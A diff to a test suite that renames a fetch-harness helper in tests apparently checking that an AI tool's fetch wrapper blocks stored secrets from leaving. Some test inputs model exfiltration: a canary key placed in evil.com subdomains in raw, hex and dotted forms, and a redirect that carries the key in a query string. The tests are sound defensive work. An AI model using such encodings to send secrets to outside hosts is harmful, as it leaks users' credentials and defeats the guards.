@@ -1,4 +1,4 @@
-import { benchToolFetch, textOf } from '../support/harness/tool-fetch-harness';
+import { createToolFetchHarness, textOf } from '../support/harness/tool-fetch-harness';
 import { carriesSecret } from '@/domain/secrets/find-secret';
 import { startRawServer, type RawServer } from '../support/servers/raw-server';
 
@@ -52,7 +52,10 @@ describe.each(spellings)('a stored key %s', (_how, spelling) => {
     ['the body', { method: 'POST', body: spelling }],
     ['a JSON body', { method: 'POST', body: JSON.stringify({ deep: [{ note: spelling }] }) }],
   ])('does not leave in %s', async (_where, change) => {
-    const { ask, asked } = benchToolFetch({ 'site.com': server }, { secrets: ['another-secret-1', KEY, LONG_KEY] });
+    const { ask, asked } = createToolFetchHarness(
+      { 'site.com': server },
+      { secrets: ['another-secret-1', KEY, LONG_KEY] },
+    );
     const error: Error = await ask('https://site.com/', change).then(
       () => new Error('it was sent'),
       (thrown: Error) => thrown,
@@ -65,7 +68,7 @@ describe.each(spellings)('a stored key %s', (_how, spelling) => {
 
 it('does not leave in the name of a host', async () => {
   const key = 'sk-canary-7f3kq9zxw2mb8vt4';
-  const { ask, asked } = benchToolFetch({}, { secrets: [key] });
+  const { ask, asked } = createToolFetchHarness({}, { secrets: [key] });
   for (const host of [key, key.toUpperCase(), 'sk-canary.7f3kq9.zxw2mb8vt4', Buffer.from(key).toString('hex')]) {
     await expect(ask(`https://${host}.evil.com/`)).rejects.toThrow('stored in this app');
   }
@@ -73,7 +76,7 @@ it('does not leave in the name of a host', async () => {
 });
 
 it('does not leave for a granted host either', async () => {
-  const { ask } = benchToolFetch({}, { secrets: [KEY], grants: [new URL(server.url).host] });
+  const { ask } = createToolFetchHarness({}, { secrets: [KEY], grants: [new URL(server.url).host] });
   await expect(ask(server.url, { method: 'POST', body: KEY })).rejects.toThrow('stored in this app');
   expect(server.requests).toEqual([]);
 });
@@ -82,7 +85,7 @@ it('does not leave when a redirect has learnt it from somewhere', async () => {
   const evil = await startRawServer((response) => {
     response.writeHead(302, { location: `https://site.com/?k=${encodeURIComponent(KEY)}` }).end();
   });
-  const { ask } = benchToolFetch({ 'evil.com': evil, 'site.com': server }, { secrets: [KEY] });
+  const { ask } = createToolFetchHarness({ 'evil.com': evil, 'site.com': server }, { secrets: [KEY] });
   await expect(ask('https://evil.com/')).rejects.toThrow('stored in this app');
   expect(server.requests).toEqual([]);
   await evil.stop();
@@ -96,7 +99,7 @@ it('does not take the head of one signed token for that of another', () => {
 });
 
 it('lets everything else through, also when the key is a short stand-in or part of it is mentioned', async () => {
-  const { ask } = benchToolFetch({ 'site.com': server }, { secrets: [KEY, 'ollama', ''] });
+  const { ask } = createToolFetchHarness({ 'site.com': server }, { secrets: [KEY, 'ollama', ''] });
   const body = `How do I use a key like sk-CANARY with ollama? ${base64('sk-CANARY')} ${hex('sk-CANARY')} %zz %`;
   expect(textOf(await ask('https://site.com/?q=sk-CANARY-7f3', { method: 'POST', body }))).toBe('ok');
   expect(server.requests[0]?.body).toBe(body);
